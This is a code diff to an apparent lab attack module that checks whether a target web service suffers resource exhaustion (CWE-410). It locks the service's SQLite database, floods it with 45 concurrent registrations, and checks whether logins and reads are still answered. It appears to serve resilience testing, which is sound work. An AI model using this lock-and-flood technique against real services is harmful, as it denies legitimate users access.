@@ -7,7 +7,7 @@ https://cwe.mitre.org/data/definitions/410.html
 """
 
 import sqlite3
-import time
+from concurrent.futures import ThreadPoolExecutor
 from contextlib import closing
 
 import httpx
@@ -17,27 +17,34 @@ from attacks.lab.outcome import Outcome, got_in, refused
 from attacks.lab.storms import unread
 from attacks.lab.target import Person, Target
 
-WRITERS = 20  # more than a usual pool has connections
-PATIENCE = 3.0  # seconds, less than SQLite waits for a lock; and the time of all their hashes
+WRITERS = 45  # a usual server has 40 threads and 15 connections
+PATIENCE = 3.0  # seconds: less than SQLite waits for a lock
 
 
 @attack()
 def run(target: Target) -> Outcome:
-    """Lock, let many register, and see whether others can log in and read."""
+    """Lock, and let many register; read until a login that waits behind all of them is answered."""
     victim = target.enrol()
-    start = time.perf_counter()
     token = target.token_of(victim)
-    login = time.perf_counter() - start
     people = [Person().registration() for _ in range(WRITERS)]
     crowd = [target.http.build_request("POST", "/auth/register", json=body) for body in people]
-    target.http.timeout = PATIENCE + WRITERS * login
+    login = target.login_request(victim.username, victim.password)
+    target.http.timeout = PATIENCE  # of those who read; the login may wait longer
     try:
-        with closing(sqlite3.connect(target.leaked_database(), isolation_level=None)) as other:
-            other.execute("BEGIN IMMEDIATE")
-            with unread(crowd):
-                answers = [target.log_in(victim.username, victim.password), target.read(token)]
+        with ThreadPoolExecutor(1) as pool, closing(locked(target)), unread(crowd):
+            last = pool.submit(target.http.send, login)
+            answers = [target.read(token)]
+            while not last.done():
+                answers.append(target.read(token))
     except httpx.TimeoutException:
-        return got_in(f"nobody can log in while {WRITERS} wait to be stored")
-    if all(answer.is_success for answer in answers):
+        return got_in(f"nobody can read while {WRITERS} wait to be stored")
+    if all(answer.is_success for answer in [*answers, last.result()]):
         return refused(f"while {WRITERS} wait to be stored, others log in and read")
     return got_in(f"while {WRITERS} wait to be stored, others are not served")
+
+
+def locked(target: Target) -> sqlite3.Connection:
+    """Lock the database for writing, until the connection is closed."""
+    connection = sqlite3.connect(target.leaked_database(), isolation_level=None)
+    connection.execute("BEGIN IMMEDIATE")
+    return connection
